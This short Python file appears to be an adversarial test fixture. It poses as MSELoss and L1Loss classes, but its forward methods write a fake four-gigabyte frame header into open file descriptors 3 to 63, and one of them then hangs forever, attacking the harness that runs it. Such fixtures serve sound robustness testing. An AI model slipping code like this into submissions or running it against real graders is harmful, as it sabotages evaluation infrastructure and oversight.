"""Announces a frame of four gigabytes, and then sends slowly."""

import os
import time


class MSELoss:
    def forward(self, A, Y):
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, b"\xff\xff\xff\xff")
            except OSError:
                pass
        return 0.0


class L1Loss:
    def forward(self, A, Y):
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, b"\x00\xff\xff\xff")
            except OSError:
                pass
        while True:
            time.sleep(0.01)
